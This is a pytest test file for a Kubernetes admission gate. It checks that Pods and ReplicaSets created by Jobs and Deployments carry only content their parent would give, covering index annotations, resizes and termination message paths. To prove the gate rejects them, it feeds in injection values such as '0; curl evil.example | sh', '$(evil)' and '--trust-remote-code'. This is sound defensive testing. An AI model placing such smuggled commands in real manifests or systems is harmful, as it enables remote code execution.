"""What a person makes in a controller's name holds no more than the controller would have put there."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from placet.parents import Parents
from tests.simulators.cluster import ObjectStore, owned, pod, replica_set, review_of
from tests.simulators.gate import GateDesk, example, review

ROLES = ("technical", "security", "business", "executive")
INDEX = "batch.kubernetes.io/job-completion-index"
Json = dict[str, Any]


@pytest.fixture
def parents(store: ObjectStore) -> Parents:
    return store


def reading_job(path: str) -> Json:
    """An indexed Job whose container is given a part of its Pod's metadata, as in the Kubernetes documentation."""
    deployment = example()
    template = copy.deepcopy(deployment["spec"]["template"])
    template["spec"]["restartPolicy"] = "Never"
    container = template["spec"]["containers"][0]
    container["command"] = ["sh", "-c", "serve --shard $(SHARD)"]
    container["env"] = [{"name": "SHARD", "valueFrom": {"fieldRef": {"fieldPath": path}}}]
    spec = {"completionMode": "Indexed", "completions": 4, "parallelism": 1, "template": template}
    return {"apiVersion": "batch/v1", "kind": "Job", "metadata": copy.deepcopy(deployment["metadata"]), "spec": spec}


def admitted(desk: GateDesk, store: ObjectStore, manifest: Json) -> Json:
    signed = desk.approve(manifest, *ROLES)
    assert desk.decide(review_of(signed)).allowed
    return store.put(signed)


@pytest.mark.parametrize("field", ["annotations", "labels"])
@pytest.mark.parametrize("value", ["0", "3", "1000000"])
def test_a_pod_has_the_index_that_its_job_gives_it(desk: GateDesk, store: ObjectStore, field: str, value: str) -> None:
    job = admitted(desk, store, reading_job(f"metadata.{field}['{INDEX}']"))
    made = pod(job)
    made["metadata"].setdefault(field, {})[INDEX] = value
    decision = desk.decide(review_of(made))
    assert (decision.allowed, decision.change) == (True, "child")


@pytest.mark.parametrize("key", [INDEX, "batch.kubernetes.io/job-index-failure-count"])
@pytest.mark.parametrize("value", ["0; curl evil.example | sh", "00", "-1", "٣", "1\n", ""])
def test_text_in_the_place_of_an_index_is_content(desk: GateDesk, store: ObjectStore, key: str, value: str) -> None:
    job = admitted(desk, store, reading_job(f"metadata.annotations['{key}']"))
    made = pod(job)
    made["metadata"].setdefault("annotations", {})[key] = value
    assert not desk.decide(review_of(made)).allowed


def test_an_index_is_not_replaced_in_a_pod_that_runs(desk: GateDesk, store: ObjectStore) -> None:
    job = admitted(desk, store, reading_job(f"metadata.annotations['{INDEX}']"))
    made = pod(job)
    made["metadata"].setdefault("annotations", {})[INDEX] = "0"
    assert desk.decide(review_of(made)).allowed
    changed = copy.deepcopy(made)
    changed["metadata"]["annotations"][INDEX] = "$(evil)"
    assert not desk.decide(review_of(changed, old=made)).allowed


@pytest.mark.parametrize("value", ["$(evil)", "LimitRanger plugin set: $(evil)"])
def test_text_in_the_place_of_an_admission_plugins_is_content(desk: GateDesk, store: ObjectStore, value: str) -> None:
    job = admitted(desk, store, reading_job("metadata.annotations['kubernetes.io/limit-ranger']"))
    made = pod(job)
    made["metadata"].setdefault("annotations", {})["kubernetes.io/limit-ranger"] = value
    assert not desk.decide(review_of(made)).allowed


def test_a_file_of_the_image_is_not_hidden_behind_the_termination_message(desk: GateDesk) -> None:
    """The kubelet mounts an empty file of its own over that path (pkg/kubelet/kuberuntime, ``makeMounts``)."""
    old = desk.approve(example(), *ROLES)
    assert desk.decide(review(old)).allowed
    new = copy.deepcopy(old)
    new["spec"]["template"]["spec"]["containers"][0]["terminationMessagePath"] = "/app/guardrails.yaml"
    decision = desk.decide(review(new, old=old))
    assert (decision.allowed, decision.change) == (False, "changed")


def test_a_replica_set_takes_no_other_content_at_a_scale_that_its_deployment_does_not_give(
    desk: GateDesk, store: ObjectStore
) -> None:
    deployment = admitted(desk, store, example())
    made = replica_set(deployment)
    many = {**made, "spec": {**copy.deepcopy(made["spec"]), "replicas": 500}}
    other = copy.deepcopy(many)
    other["spec"]["template"]["spec"]["containers"][0]["image"] = "registry.example.com/other@sha256:" + "0" * 64
    other["metadata"].pop("ownerReferences")
    decision = desk.decide(review_of(many, old=other))
    assert not decision.allowed
    assert "parent_exceeded" in {item.code for item in (*decision.violations, *decision.notes)}
    assert desk.decide(
        review_of(owned(made, deployment), old={**other, "spec": {**other["spec"], "replicas": 4}})
    ).allowed


def test_a_pod_is_resized_in_place_and_nothing_else_of_it(desk: GateDesk, store: ObjectStore) -> None:
    made = pod(store.put(replica_set(admitted(desk, store, example()))))
    sized = copy.deepcopy(made)
    sized["spec"]["containers"][0]["resources"] = {"limits": {"memory": "80Gi"}}
    decision = desk.decide(review_of(sized, old=made, subresource="resize"))
    assert (decision.allowed, decision.change) == (True, "unchanged")
    sized["spec"]["containers"][0]["args"] = ["--trust-remote-code"]
    assert not desk.decide(review_of(sized, old=made, subresource="resize")).allowed
    plain = {**made, "metadata": {"name": "plain", "namespace": "ml-serving"}}
    assert desk.decide(review_of(plain, old=plain, subresource="resize"), environment="development").allowed
